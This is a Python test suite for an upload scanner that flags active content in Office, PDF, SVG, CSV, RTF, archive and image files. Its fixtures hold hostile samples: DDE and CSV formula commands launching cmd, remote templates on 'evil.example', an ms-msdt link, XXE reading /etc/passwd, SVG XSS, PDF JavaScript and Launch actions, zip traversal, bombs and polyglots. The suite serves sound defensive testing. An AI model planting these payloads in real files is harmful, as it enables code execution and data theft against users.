"""What scanning sees in files that would act when opened, and that it lets ordinary ones pass."""

from __future__ import annotations

import io
import struct
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import pytest
from docx import Document
from PIL import Image
from pptx import Presentation
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from xiaobao_web.kernel.scanning import Budget, scan, sniff
from xiaobao_web.kernel.scanning.kinds import EXECUTABLE, OLE
from xiaobao_web.kernel.scanning.outcome import Unfinished

SAMPLES = Path(__file__).parents[3] / "samples"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def scanned(data: bytes, name: str, budget: Budget | None = None):
    file = io.BytesIO(data)
    kind = sniff(file, name)
    assert kind is not None
    return scan(file, kind, budget)


def codes(data: bytes, name: str) -> set[str]:
    return {remark.code for remark in scanned(data, name).remarks if remark.blocks}


def word(text: str = "您好") -> bytes:
    file, document = io.BytesIO(), Document()
    document.add_paragraph(text)
    document.save(file)
    return file.getvalue()


def with_parts(data: bytes, parts: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return out.getvalue()


def relation(kind: str, target: str) -> str:
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{RELS}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )


def field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:ftr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p>{runs}</w:p></w:ftr>'


def zipped(members: dict[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def picture(kind: str = "PNG") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "white").save(out, kind)
    return out.getvalue()


def pdf(change=None, *, pack: bool = False, password: str | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if change:
        change(writer)
    if password is not None:
        writer.encrypt(user_password=password, owner_password="owner", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return packed(out.getvalue()) if pack else out.getvalue()


def packed(data: bytes) -> bytes:
    """Return a PDF with its catalogue inside a compressed object stream, where no plain search finds it."""
    reader = PdfReader(io.BytesIO(data))
    root = reader.trailer["/Root"].indirect_reference.idnum
    start = data.index(f"{root} 0 obj".encode())
    body = data[start + len(f"{root} 0 obj") : data.index(b"endobj", start)].strip()
    inner = f"{root} 0 ".encode()
    stream = zlib.compress(inner + body)
    head = b"99 0 obj\n<< /Type /Obj#53tm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(inner),
        len(stream),
    )
    return b"%PDF-1.7\n" + head + stream + b"\nendstream\nendobj\n%%EOF\n"


@pytest.mark.parametrize("path", sorted(SAMPLES.glob("*-*")), ids=lambda path: path.name)
def test_the_samples_pass_but_for_the_script_of_the_page(path):
    with path.open("rb") as file:
        kind = sniff(file, path.name)
        assert kind is not None
        assert path.suffix in kind.suffixes
        blocking = {remark.code for remark in scan(file, kind).remarks if remark.blocks}
    assert blocking == ({"markup.script"} if path.suffix == ".html" else set())


def test_a_deck_and_a_document_with_a_link_pass():
    file, deck = io.BytesIO(), Presentation()
    deck.slides.add_slide(deck.slide_layouts[0]).shapes.title.text = "产品"
    deck.save(file)
    assert codes(file.getvalue(), "a.pptx") == set()
    linked = with_parts(word(), {"word/_rels/footnotes.xml.rels": relation("hyperlink", "https://bank.example/")})
    assert codes(linked, "a.docx") == set()


@pytest.mark.parametrize(
    ("parts", "code"),
    [
        ({"word/vbaProject.bin": b"x"}, "office.macro"),
        ({"word/activeX/activeX1.xml": b"<x/>"}, "office.activex"),
        ({"word/embeddings/oleObject1.bin": OLE}, "office.ole"),
        ({"word/media/hidden.dat": OLE + b"\0" * 100}, "office.ole"),
        ({"word/media/tool.dat": b"MZ\x90\0"}, "office.executable"),
        ({"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/a.dotm")}, "office.outer"),
        ({"word/_rels/settings.xml.rels": relation("attachedTemplate", "\\\\evil\\share\\a.dotm")}, "office.outer"),
        ({"word/_rels/document2.xml.rels": relation("oleObject", "file:///c:/a.doc")}, "office.outer"),
        ({"word/_rels/document2.xml.rels": relation("frame", "https://evil.example/")}, "office.outer"),
        ({"word/_rels/document2.xml.rels": relation("hyperlink", "ms-msdt:/id PCWDiagnostic")}, "office.link"),
        ({"word/footer9.xml": field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")}, "office.dde"),
        ({"word/footer9.xml": field("DD", "EAU", "TO cmd")}, "office.dde"),
        ({"word/footer9.xml": field("&#68;DEAUTO cmd")}, "office.dde"),
        ({"word/footer9.xml": field("QUOTE 68 68 69 65 85 84 79")}, "office.dde"),
        ({"word/footer9.xml": field("DDEAUTO cmd").encode("utf-16")}, "office.dde"),
        (
            {"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink ddeService='cmd'/></externalLink>"},
            "office.dde",
        ),
        ({"xl/worksheets/sheet1.xml": "<c><f>cmd|'/c calc'!A0</f></c>"}, "office.dde"),
        ({"xl/macrosheets/sheet1.xml": "<x/>"}, "office.macro"),
        ({"word/custom.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}, "xml.doctype"),
        ({"../../evil.xml": "<x/>"}, "zip.traversal"),
    ],
)
def test_active_office_documents_are_seen(parts, code):
    assert code in codes(with_parts(word(), parts), "a.docx")


def test_a_macro_in_a_workbook_embedded_in_a_document_is_seen():
    inner = with_parts(word(), {"word/vbaProject.bin": b"x"})
    outcome = scanned(with_parts(word(), {"word/embeddings/Book1.docx": inner}), "a.docx")
    assert outcome.blocked
    assert outcome.remarks[0].place == "word/embeddings/Book1.docx／word/vbaProject.bin"


def javascript(writer):
    script = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(script)


def launch(writer):
    action = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
    writer.root_object[NameObject("/OpenAction")] = action


def opens_address(writer):
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("http://evil")}
    )
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)


def goes_to_page(writer):
    action = DictionaryObject({NameObject("/S"): NameObject("/GoTo"), NameObject("/D"): TextStringObject("first")})
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)


def attaches(writer):
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/EmbeddedFiles"): DictionaryObject()})


@pytest.mark.parametrize("pack", [False, True], ids=["plain", "object stream"])
@pytest.mark.parametrize(
    ("change", "code"), [(javascript, "pdf.script"), (launch, "pdf.launch"), (attaches, "pdf.embedded")]
)
def test_active_pdf_is_seen_also_in_object_streams(change, code, pack):
    assert code in codes(pdf(change, pack=pack), "a.pdf")


def test_names_written_with_escapes_are_seen():
    assert "pdf.script" in codes(
        pdf(javascript).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53"), "a.pdf"
    )


def test_what_is_hidden_in_a_stream_is_seen():
    inner = b"7 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj"
    hidden = b"9 0 obj\n<</Length 60>>\nstream\n" + inner + b"\nendstream\nendobj\n%%EOF"
    assert "pdf.script" in codes(pdf() + hidden, "a.pdf")


def test_opening_actions_are_judged_by_what_they_do():
    assert "pdf.opening" in codes(pdf(opens_address), "a.pdf")
    assert codes(pdf(goes_to_page), "a.pdf") == set()
    assert codes(pdf(), "a.pdf") == set()


def test_encrypted_pdf_is_read_where_no_password_is_needed():
    assert codes(pdf(password=""), "a.pdf") == set()
    assert "pdf.script" in codes(pdf(javascript, password=""), "a.pdf")
    assert "pdf.encrypted" in codes(pdf(password="secret"), "a.pdf")


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("<svg><script>alert(1)</script></svg>", "markup.script"),
        ("<svg><svg:script>alert(1)</svg:script></svg>", "markup.script"),
        ('<svg onload="alert(1)"/>', "markup.handler"),
        ("<svg\n/onload=alert(1)>", "markup.handler"),
        ('<svg><a href="&#106;avascript:alert(1)"/></svg>', "markup.script"),
        ('<svg><a href="java\tscript:alert(1)"/></svg>', "markup.script"),
        ("<svg><foreignObject/></svg>", "markup.embedded"),
        ('<svg><image href="https://evil.example/a.png"/></svg>', "markup.outer"),
        ('<svg><use xlink:href="//evil.example/a.svg#b"/></svg>', "markup.outer"),
        ("<svg><style>@import 'x'</style></svg>", "markup.outer"),
        ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>', "xml.doctype"),
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_active_svg_is_seen(text, code, encoding):
    assert code in codes(text.encode(encoding), "a.svg")


def test_plain_markup_passes():
    assert codes(b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>', "a.svg") == set()
    assert codes("<!DOCTYPE html><html><body><p>利率 on=3%</p></body></html>".encode(), "a.html") == set()
    assert codes("姓名,金额\n张三,-5\n李四,+3\n".encode(), "a.csv") == set()


def test_a_script_across_windows_is_seen():
    text = b"<svg>" + b" " * ((1 << 20) - 9) + b"<script>1</script></svg>"
    assert "markup.script" in codes(text, "a.svg")


@pytest.mark.parametrize("cell", ["=cmd|'/c calc'!A0", "@SUM(1)+cmd|'/c calc'!A0", "=rundll32(|x)", "=DDE|'a'"])
def test_csv_that_runs_commands_is_seen(cell):
    assert codes(f"名称,值\n甲,{cell}\n".encode(), "a.csv") == {"csv.dde"}


def test_rich_text_and_old_office_files_are_looked_into():
    assert codes(rb"{\rtf1 {\object\objdata 0105}}", "a.rtf") == {"rtf.object"}
    assert codes(rb"{\rtf1 {\*\template http://evil}}", "a.rtf") == {"rtf.template"}
    assert codes(rb"{\rtf1 hello}", "a.rtf") == set()
    old = OLE + b"\0" * 600 + "WordDocument".encode("utf-16-le") + b"\0" * 200
    assert codes(old, "a.doc") == set()
    assert codes(old + "_VBA_PROJECT".encode("utf-16-le"), "a.doc") == {"compound.macro"}
    assert codes(old + "\x01Ole10Native".encode("utf-16-le"), "a.doc") == {"compound.ole"}


def test_bombs_are_seen_before_they_unpack():
    tracemalloc.start()
    assert codes(zipped({"a.txt": b"0" * (200 << 20)}), "a.zip") == {"bomb"}
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 480 << 20  # the test's own 200 MB and the writer's copy
    many = zipped({f"{number}.txt": b"" for number in range(30)})
    assert {remark.code for remark in scanned(many, "a.zip", Budget(max_members=20)).remarks} == {"bomb"}


def test_a_lying_size_is_seen_while_it_unpacks():
    data = bytearray(zipped({"a.txt": b"0" * (40 << 20)}))
    place = data.rindex(b"PK\x01\x02")
    data[place + 24 : place + 28] = struct.pack("<I", 1000)
    with pytest.raises(Unfinished):
        scanned(bytes(data), "a.zip")


def test_overlapping_members_are_seen():
    data = bytearray(zipped({"a.txt": b"1" * 500, "b.txt": b"2" * 500}, zipfile.ZIP_STORED))
    place = data.rindex(b"PK\x01\x02")
    data[place + 42 : place + 46] = struct.pack("<I", 0)
    assert codes(bytes(data), "a.zip") == {"bomb"}


def test_nesting_traversal_links_and_programs_in_archives_are_seen():
    data = b"hello"
    for _level in range(5):
        data = zipped({"a.zip": data} if data != b"hello" else {"a.txt": data})
    assert "nesting" in codes(data, "a.zip")
    assert codes(zipped({"../a.txt": b"x"}), "a.zip") == {"zip.traversal"}
    assert codes(zipped({"a\\..\\..\\a.txt": b"x"}), "a.zip") == {"zip.traversal"}
    assert codes(zipped({"a.exe": b"x"}), "a.zip") == {"zip.executable"}
    assert codes(zipped({"a.txt": b"\x7fELF\2\1\1"}), "a.zip") == {"zip.executable"}
    assert codes(zipped({"a.docx": with_parts(word(), {"word/vbaProject.bin": b"x"})}), "a.zip") == {"office.macro"}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("a.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    assert codes(out.getvalue(), "a.zip") == {"zip.link"}
    assert codes(zipped({"合同.txt": "您好".encode(), "b.png": picture()}), "a.zip") == set()


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "GIF", "WEBP", "BMP"])
def test_content_that_is_two_kinds_at_once_is_seen(kind):
    data, name = picture(kind), f"a.{kind.lower()}"
    assert codes(data, name) == set()
    assert codes(data + zipped({"a.txt": b"x"}), name) & {"polyglot.zip", "polyglot.tail"}
    if kind in ("PNG", "JPEG", "WEBP"):
        assert codes(data + b"<script>alert(1)</script>", name) >= {"polyglot.tail"}
        assert codes(data + pdf(), name) == {"polyglot.tail"}


def test_a_pdf_that_is_also_an_archive_is_seen():
    assert codes(pdf() + zipped({"a.txt": b"x"}), "a.pdf") == {"polyglot.zip"}


def test_a_phone_picture_with_a_film_behind_it_passes():
    film = struct.pack(">I4s4sI", 16, b"ftyp", b"mp42", 0) + b"\x01" * 5000
    assert codes(picture("JPEG") + film, "a.jpg") == set()


@pytest.mark.parametrize(
    "head",
    [b"MZ\x90\x00" + b"\0" * 60, b"\x7fELF\x02\x01", b"#!/bin/sh\nrm", b"\xca\xfe\xba\xbe\0\0", b"<?php echo 1;"],
)
def test_programs_are_known_by_their_beginning(head):
    assert sniff(io.BytesIO(head), "a.txt") is EXECUTABLE


def test_noise_is_of_no_kind():
    assert sniff(io.BytesIO(bytes(range(256)) * 8), "a.txt") is None


def test_a_broken_archive_is_not_released():
    with pytest.raises(Unfinished):
        scan(io.BytesIO(b"PK\x03\x04" + b"\0" * 50), sniff(io.BytesIO(word()), "a.docx"))
